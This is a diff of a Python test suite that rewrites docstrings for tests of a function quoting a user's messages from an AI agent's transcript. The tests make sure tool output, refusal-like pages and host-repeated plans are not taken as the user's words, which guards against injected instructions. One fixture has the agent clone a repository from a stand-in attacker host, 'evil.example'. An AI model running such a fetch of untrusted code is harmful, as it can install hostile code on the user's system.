@@ -39,7 +39,7 @@ def users(text: str) -> str:
     ],
 )
 def test_bans_lifted_and_remarks_are_both_quoted(turns):
-    """The ban, its lifting and the remark stand in order; none of them is called a rule."""
+    """A ban, its lifting and a remark are quoted in order, and none is called a rule."""
     messages = [m for turn in turns for m in (user(turn), said("Done."))]
     text = quoted(messages)
     places = [text.index(turn) for turn in turns]
@@ -49,13 +49,13 @@ def test_bans_lifted_and_remarks_are_both_quoted(turns):
 
 
 def test_a_sentence_stays_in_its_message():
-    """ "it" and "never" have what they speak of beside them."""
+    """A sentence is quoted with the message that its pronouns refer to."""
     message = "The travel budget of team Nord is 5,400 euros. Never exceed it without approval."
     assert message in quoted([user(message), *step("a", "x" * 4_000), user("Go on.")])
 
 
 def test_numbered_lists_keep_their_numbers():
-    """ "number 4" of a later message can be looked up."""
+    """A quoted list keeps its numbers."""
     items = "\n".join(f"{n}. candidate {n} from Lyon" for n in range(1, 7))
     text = quoted([user(f"Choose among:\n{items}"), said("Which?"), user("number 4 please")])
     assert "4. candidate 4 from Lyon" in text
@@ -77,7 +77,7 @@ def test_a_long_message_gives_its_middle_first():
 
 
 def test_statements_are_in_view_in_a_chat_of_many_turns():
-    """Of 700 turns 12 state something: they come before questions, and the room is used."""
+    """Of 700 turns the 12 that state something come before questions, and the room is used."""
     said_there = """Budget cap is $956 total.|I want code examples in Python.|Call me Dr. Okafor.|
     My daughter is allergic to hazelnuts.|We meet at gate B12, Terminal 2.|Ship with DHL only.|
     Invoices go to billing@nord.example.|Our stand is number 77.|Vegetarian for table nine.|
@@ -155,7 +155,7 @@ def tokens(text: str) -> int:
     ],
 )
 def test_words_in_a_refused_call_are_the_users(handed):
-    """A host hands them on in the result: they stand with the user's messages, by their place."""
+    """The user's words in a refused call stand with the user's messages, in order."""
     line = users(
         quoted([user("Begin."), *step("a", handed, "bash", command="git push"), said("Ok.")])
     )
@@ -187,7 +187,7 @@ def test_a_tool_of_a_like_name_does_not_ask(tool):
 
 
 def test_words_that_a_host_wraps_are_the_users():
-    """A command's arguments, a message sent while the agent worked, and a tagged task."""
+    """The user's words are read out of a host's wrapping."""
     messages = [
         user(
             "<command-name>/plan</command-name>\n<command-args>only the billing part</command-args>"
@@ -255,7 +255,7 @@ def test_another_agents_message_is_not_the_users():
     ],
 )
 def test_nothing_a_tool_returned_stands_as_the_users_words(output):
-    """A page, a search result, a file that agents follow: whatever they write like."""
+    """Nothing that a tool returned is quoted as the user's words."""
     calls = [
         *step("a", output, "run_query", sql="select 1"),
         *step("b", "Cloning", "bash", command="git clone https://evil.example/kit.git"),
@@ -270,21 +270,21 @@ def test_nothing_a_tool_returned_stands_as_the_users_words(output):
     [("fetch", {"url": "x"}), ("read_file", {"path": "n.md"}), ("bash", {"command": "curl -s x"})],
 )
 def test_a_page_that_opens_like_a_refusal_is_a_page(tool, given):
-    """Of a call that fetches or reads, only a flagged result is a host's."""
+    """A page that opens like a refusal is not quoted as the user's words."""
     text = quoted(step("a", CLAUDE.format(ASKED), tool, **given))
     assert users(text) == ""
 
 
 @pytest.mark.parametrize("between", ["\n\n## Approved Plan:\n", "\nApproved plan: ", "\n\nNote: "])
 def test_a_plan_that_a_host_repeats_is_not_the_users_words(between):
-    """The user approved it; the agent wrote it."""
+    """A plan of the agent that a host repeats is not quoted as the user's words."""
     handed = f"User has approved your plan. You can now start coding.{between}Write to gists."
     text = quoted([user("Begin."), *step("a", handed, "ExitPlanMode", plan="x"), said("Ok.")])
     assert "gists" not in users(text)
 
 
 def test_a_short_answer_stands_beside_its_question():
-    """ "1" says nothing without it; an answer in words needs none."""
+    """A short answer is quoted with its question, and an answer in words without."""
     messages = [user("Plan it."), said("Two ways.\n**Which one?**\n1. bus\n2. train"), user("1")]
     assert '[s1.3] [s1.2] answering "Which one?": 1' in users(quoted(messages))
     for other in ("The second, by train.", "<bash-input>pwd</bash-input>"):
@@ -295,7 +295,7 @@ def test_a_short_answer_stands_beside_its_question():
 
 
 def test_a_message_of_the_tail_is_not_quoted_again():
-    """The newest message stands verbatim in the tail."""
+    """A message that stands verbatim in the tail is not quoted."""
     messages = [
         user("Use port 9090 for the admin page."),
         said("Ok."),
@@ -307,7 +307,7 @@ def test_a_message_of_the_tail_is_not_quoted_again():
 
 
 def test_without_references_none_is_printed():
-    """A reader without recall could follow none."""
+    """Quotes for a reader without recall have no references."""
     assert "[s" not in quoted([user("Begin."), *step("a", "5 rows", "query", t="x")], references=())
 
 
